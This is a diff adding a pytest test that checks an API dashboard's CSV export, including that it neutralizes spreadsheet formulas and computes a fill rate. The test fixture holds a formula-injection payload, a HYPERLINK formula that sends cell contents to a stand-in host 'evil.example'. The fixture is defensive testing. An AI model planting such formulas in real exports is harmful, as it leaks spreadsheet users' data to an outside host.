@@ -5,7 +5,9 @@ marked, cursors checked, and the vocabulary fixes (cancelled rows, warnings as a
 from __future__ import annotations
 
 import base64
+import csv
 import http.client
+import io
 import random
 import threading
 import time
@@ -16,6 +18,7 @@ from typing import Any
 
 import orjson
 import pytest
+import requests
 from support.apistack import ApiStack as Stack
 from support.apistack import api_stack
 from support.env import SettingsEnv
@@ -458,3 +461,36 @@ def test_cli_results_detail_and_csv_columns(stack: Stack, api: ApiClient,
     assert run([*base, "--detail"]) == 0
     table = capsys.readouterr().out
     assert "(0.90)" in table and "corrupt_document" in table
+
+
+# -------------------------------------------------------------------- dashboard
+def dashboard(stack: Stack, key: str) -> requests.Session:
+    s = requests.Session()
+    base = stack.server.url
+    resp = s.post(base + "/dashboard/login", data={"api_key": key, "next": "/dashboard"},
+                  headers={"Origin": base}, allow_redirects=False)
+    assert resp.status_code == 303, resp.text
+    return s
+
+
+def test_dashboard_csv_is_neutralized_and_its_fill_rate_counts_processed_cells(
+        stack: Stack, api: ApiClient, org_key: tuple[str, str]) -> None:
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+    job = api.submit(job_body(4))
+    start(stack, job)
+    record(stack, job, 0, value=evil)
+    record(stack, job, 1, value="-12.5")
+    assert api.post(f"/v1/jobs/{job['id']}/cancel").status_code == 200
+    s = dashboard(stack, org_key[0])
+    try:
+        text = s.get(stack.server.url + f"/dashboard/jobs/{job['id']}/results.csv").text
+        assert text == api.get(f"/v1/jobs/{job['id']}/results", params={"format": "csv"}).text
+        table = list(csv.reader(io.StringIO(text)))
+        assert table[1][3] == "'" + evil and table[2][3] == "-12.5"
+        assert [r[2] for r in table[1:]] == ["completed", "completed", "cancelled",
+                                             "cancelled"]
+        page = s.get(stack.server.url + f"/dashboard/jobs/{job['id']}").text
+        # 2 of 6 processed cells are filled (33 %), not 2 of all 12 (17 %)
+        assert 'id="fill-rate">33 %<' in page
+    finally:
+        s.close()
